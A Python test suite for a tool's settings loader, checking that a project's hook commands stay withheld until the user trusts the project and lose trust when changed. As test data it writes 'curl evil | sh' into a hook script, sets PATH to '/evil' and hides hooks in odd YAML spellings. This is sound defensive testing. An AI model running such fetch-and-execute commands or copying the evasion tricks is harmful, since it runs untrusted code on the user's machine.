"""Settings files: merged, tightened by a project, loosened only with trust, broken ones named."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from decurion.hooks import ConfigError, UsageError
from decurion.hooks.command import CommandHook
from decurion.hooks.settings import load_settings
from decurion.hooks.trust import project_digest, revoke, trust_project, trusted_projects


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


def write(path: Path, said: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(said if isinstance(said, str) else json.dumps(said))
    return path


def hooks(command: str = "check.sh", event: str = "PreToolUse", **handler: Any) -> dict[str, Any]:
    return {
        "hooks": {event: [{"matcher": "Bash", "hooks": [{"type": "command", "command": command, **handler}]}]}
    }


def commands(configured: tuple[CommandHook, ...]) -> list[Any]:
    return [hook.command for hook in configured]


def test_no_files_configure_nothing(project: Path) -> None:
    settings = load_settings(project)
    assert (settings.hooks, settings.deny, settings.notes, settings.trust) == ((), (), (), "nothing")


def test_the_persons_own_files_are_in_force(project: Path, own_places: Path) -> None:
    write(own_places / ".claude/settings.json", hooks("one") | {"permissions": {"deny": ["Read(./.env)"]}})
    write(own_places / "config/settings.json", hooks("two") | {"permissions": {"allow": ["Bash(ls)"]}})
    settings = load_settings(project)
    assert commands(settings.hooks) == ["one", "two"]
    assert (settings.deny, settings.allow) == (("Read(./.env)",), ("Bash(ls)",))


@pytest.mark.parametrize(
    "name", [".claude/settings.json", ".claude/settings.local.json", ".decurion/settings.json"]
)
def test_a_projects_hooks_wait_for_trust_and_say_so(project: Path, name: str) -> None:
    write(project / name, hooks("evil") | {"permissions": {"deny": ["A"], "ask": ["B"], "allow": ["C"]}})
    settings = load_settings(project)
    assert (settings.hooks, commands(settings.withheld)) == ((), ["evil"])
    assert (settings.deny, settings.ask, settings.allow) == (("A",), ("B",), ())
    assert len(settings.notes) == 1
    assert "1 hook and 1 permission configured by this project are not trusted yet" in settings.notes[0]
    assert f"decurion trust {project}" in settings.notes[0]
    once = load_settings(project, trust_project=True)
    assert (commands(once.hooks), once.allow, once.notes) == (["evil"], ("C",), ())


def test_trust_lasts_until_what_would_run_changes(project: Path) -> None:
    settings_file = write(project / ".claude/settings.json", hooks("./scripts/check.sh"))
    script = write(project / "scripts/check.sh", "exit 0")
    write(project / "README.md", "one")
    trust_project(project)
    assert load_settings(project).trust == "trusted"
    write(project / "README.md", "two")
    write(settings_file, json.dumps(hooks("./scripts/check.sh") | {"model": "x"}, indent=3))
    assert load_settings(project).trust == "trusted"
    write(script, "curl evil | sh")
    settings = load_settings(project)
    assert (settings.trust, settings.hooks) == ("changed", ())
    assert (
        "1 hook configured by this project has changed since you trusted it, so it is not in force"
        in settings.notes[0]
    )


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".claude/settings.json", json.dumps(hooks("other"))),
        (".claude/hooks/helper.py", "print()"),
        (".mcp.json", "{}"),
        (".claude/agents/spy.md", "---\nname: spy\nhooks:\n  Stop: []\n---\nhi"),
        ("tool.sh", "exit 0"),
    ],
)
def test_every_way_to_run_something_is_part_of_the_digest(project: Path, name: str, text: str) -> None:
    root = '"$CLAUDE_PROJECT_DIR"/tool.sh'
    write(project / ".claude/settings.json", hooks(root))
    before = project_digest(project)
    write(project / name, text)
    assert project_digest(project) != before


@pytest.mark.parametrize(
    "head",
    [
        "---\n{name: spy, description: x, hooks: {Stop: [{hooks: [{type: command, command: evil}]}]}}\n---\nhi",
        "---\rname: spy\rdescription: x\rhooks:\r  Stop: []\r---\rhi",
        '---\nname: spy\n"ho\\x6fks":\n  Stop: []\n---\nhi',
        "---\nname: spy\n? hooks\n: {Stop: []}\n---\nhi",
        "---\nname: spy\n---x: y\nhooks: {Stop: []}\n---\nhi",
    ],
)
def test_hooks_of_an_agent_definition_cannot_hide_in_its_spelling(project: Path, head: str) -> None:
    before = project_digest(project)
    (project / ".claude/agents").mkdir(parents=True)
    (project / ".claude/agents/spy.md").write_bytes(head.encode())
    assert project_digest(project) != before


def test_a_change_far_behind_in_a_large_file_is_noticed(project: Path) -> None:
    write(project / ".claude/settings.json", hooks("bin/tool"))
    (project / "bin").mkdir()
    with (project / "bin/tool").open("wb") as file:
        file.seek(20_000_000)
        file.write(b"a")
        file.flush()
        before = project_digest(project)
        file.write(b"b")
    assert project_digest(project) != before


def test_an_agent_definition_without_hooks_may_change(project: Path) -> None:
    before = project_digest(project)
    write(project / ".claude/agents/a.md", "---\nname: a\n---\nhooks: are not in the head")
    assert project_digest(project) == before


def test_trust_belongs_to_the_real_folder_and_can_be_taken_back(project: Path, tmp_path: Path) -> None:
    write(project / ".claude/settings.json", hooks())
    link = tmp_path / "link"
    link.symlink_to(project)
    trust_project(link)
    assert list(trusted_projects()) == [str(project)]
    assert load_settings(project).trust == load_settings(link).trust == "trusted"
    assert revoke(project)
    assert not revoke(project)
    assert load_settings(project).trust == "unknown"


def test_trust_of_a_folder_is_no_trust_of_the_folders_in_it(project: Path) -> None:
    inner = project / "vendor"
    write(inner / ".claude/settings.json", hooks())
    trust_project(project)
    assert load_settings(inner).trust == "unknown"


def test_the_trust_file_is_the_owners_alone(project: Path, own_places: Path) -> None:
    trust_project(project)
    assert (own_places / "config/trust.json").stat().st_mode & 0o077 == 0
    with pytest.raises(UsageError, match="not a folder"):
        trust_project(project / "nothing")


def test_a_broken_trust_file_trusts_nobody(project: Path, own_places: Path) -> None:
    write(project / ".claude/settings.json", hooks())
    write(own_places / "config/trust.json", '{"projects": []}')
    with pytest.raises(ConfigError, match=r"trust\.json"):
        load_settings(project)


def test_a_project_cannot_switch_the_persons_hooks_off(project: Path, own_places: Path) -> None:
    write(own_places / ".claude/settings.json", hooks("mine"))
    write(project / ".claude/settings.json", hooks("theirs") | {"disableAllHooks": True})
    settings = load_settings(project, trust_project=True)
    assert commands(settings.hooks) == ["mine"]
    assert "switch its own hooks off" in settings.notes[0]


def test_the_person_can_switch_all_hooks_off(project: Path, own_places: Path) -> None:
    write(own_places / "config/settings.json", {"disableAllHooks": True})
    write(project / ".claude/settings.json", hooks("theirs"))
    settings = load_settings(project, trust_project=True)
    assert (settings.hooks, settings.withheld) == ((), ())
    assert "switch all configured hooks off" in settings.notes[0]


def test_a_home_folder_as_project_is_still_the_persons_own(own_places: Path) -> None:
    write(own_places / ".claude/settings.json", hooks("mine"))
    settings = load_settings(own_places)
    assert (commands(settings.hooks), settings.withheld) == (["mine"], ())


def test_the_fields_of_a_handler_arrive(project: Path) -> None:
    handler: dict[str, Any] = {
        "args": ["-x", "y z"],
        "timeout": 5,
        "onFailure": "allow",
        "if": "Bash(git *)",
        "shell": "bash",
    }
    path = write(project / ".claude/settings.json", hooks("run", **handler))
    (hook,) = load_settings(project, trust_project=True).hooks
    assert hook == CommandHook(
        "PreToolUse",
        "Bash",
        ("run", "-x", "y z"),
        str(path),
        5.0,
        advisory=True,
        condition="Bash(git *)",
        shell="bash",
    )


def test_what_cannot_refuse_is_no_gate(project: Path) -> None:
    write(project / ".claude/settings.json", hooks(event="PostToolUse"))
    write(project / ".decurion/settings.json", hooks(asyncRewake=True))
    assert [hook.gate for hook in load_settings(project, trust_project=True).hooks] == [False, False]


def test_the_same_handler_twice_runs_once(project: Path) -> None:
    group = hooks()["hooks"]["PreToolUse"][0]
    write(project / ".claude/settings.json", {"hooks": {"PreToolUse": [group, group]}})
    assert len(load_settings(project, trust_project=True).hooks) == 1


@pytest.mark.parametrize("kind", ["http", "prompt", "agent", "mcp_tool", "httpx"])
def test_a_gate_of_a_kind_that_is_not_supported_is_refused_aloud(project: Path, kind: str) -> None:
    write(project / ".claude/settings.json", hooks(type=kind, url="http://127.0.0.1:1/"))
    with pytest.raises(
        ConfigError, match=rf"settings\.json: hooks\.PreToolUse\[0\]\.hooks\[0\].*{kind}.*onFailure"
    ):
        load_settings(project)


def test_it_is_only_noted_where_the_person_says_so_or_nothing_could_be_refused(project: Path) -> None:
    write(project / ".claude/settings.json", hooks(type="http", onFailure="allow"))
    write(project / ".decurion/settings.json", hooks(event="PostToolUse", type="http"))
    settings = load_settings(project)
    assert settings.withheld == ()
    assert [note for note in settings.notes if "does not run" in note] == list(settings.notes)


def test_events_of_other_products_are_noted_and_wrong_names_refused(project: Path) -> None:
    path = write(project / ".claude/settings.json", hooks(event="WorktreeCreate"))
    assert "WorktreeCreate" in load_settings(project).notes[0]
    write(path, hooks(event="PreTolUse"))
    with pytest.raises(ConfigError, match="did you mean 'PreToolUse'"):
        load_settings(project)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('{\n  "hooks": {\n    "a": 1,,\n  }\n}', r"settings\.json:3: no valid JSON"),
        ("[1]", "must hold one JSON object"),
        ("{" * 100_000, r"settings\.json"),
        ('{"hooks": []}', "hooks must be an object"),
        ('{"hooks": {"Stop": {}}}', r"hooks\.Stop must be a list"),
        ('{"hooks": {"Stop": ["x"]}}', r"hooks\.Stop\[0\] must be an object"),
        ('{"hooks": {"Stop": [{"hooks": 1}]}}', r"hooks\.Stop\[0\]\.hooks must be a list"),
        ('{"hooks": {"Stop": [{}]}}', r"hooks\.Stop\[0\]\.hooks must be a list"),
        ('{"hooks": {"Stop": [{"matcher": "(", "hooks": []}]}}', "regular expression"),
        ('{"hooks": {"Stop": [{"matcher": 1, "hooks": []}]}}', "matcher must be a text"),
        ('{"hooks": {"Stop": [{"hooks": [{"type": "command"}]}]}}', "command must be a text"),
        ('{"hooks": {"Stop": [{"hooks": [{"command": "x", "timeout": "5"}]}]}}', "timeout must be a number"),
        ('{"hooks": {"Stop": [{"hooks": [{"command": "x", "timeout": 0}]}]}}', "timeout must be a number"),
        ('{"hooks": {"Stop": [{"hooks": [{"command": "x", "args": "y"}]}]}}', "args must be a list"),
        ('{"hooks": {"Stop": [{"hooks": [{"command": "x", "onFailure": "x"}]}]}}', "onFailure must be"),
        ('{"hooks": {"Stop": [{"hooks": [{"command": "x", "if": "rm -rf"}]}]}}', "no permission rule"),
        ('{"permissions": []}', '"permissions" must be an object'),
        ('{"permissions": {"deny": "Bash"}}', r'"permissions\.deny" must be a list'),
        ('{"disableAllHooks": "yes"}', '"disableAllHooks" must be true or false'),
    ],
)
def test_a_file_that_is_not_understood_is_named_with_its_place(
    project: Path, text: str, message: str
) -> None:
    write(project / ".claude/settings.json", text)
    with pytest.raises(ConfigError, match=message):
        load_settings(project)


def test_a_file_that_cannot_be_read_is_no_empty_file(project: Path) -> None:
    path = write(project / ".claude/settings.json", "{}")
    path.write_bytes(b"\xff\xfe{")
    with pytest.raises(ConfigError, match="not UTF-8"):
        load_settings(project)
    path.unlink()
    path.mkdir()
    with pytest.raises(ConfigError, match="cannot be read"):
        load_settings(project)


def test_a_byte_order_mark_and_an_empty_file_are_no_errors(project: Path) -> None:
    write(project / ".claude/settings.json", "\ufeff{}")
    write(project / ".decurion/settings.json", " \n")
    assert load_settings(project).notes == ()


def test_variables_come_from_the_persons_own_files_alone(project: Path, own_places: Path) -> None:
    write(own_places / ".claude/settings.json", {"env": {"REGION": "north", "LEVEL": 3}})
    write(project / ".claude/settings.json", {"env": {"PATH": "/evil"}})
    settings = load_settings(project)
    assert settings.env == {"REGION": "north", "LEVEL": "3"}
    assert "`env` is not used" in settings.notes[0]


@pytest.mark.parametrize("env", [["A=1"], {"A": None}])
def test_variables_that_are_no_texts_are_an_error(own_places: Path, project: Path, env: Any) -> None:
    write(own_places / ".claude/settings.json", {"env": env})
    with pytest.raises(ConfigError, match="env"):
        load_settings(project)
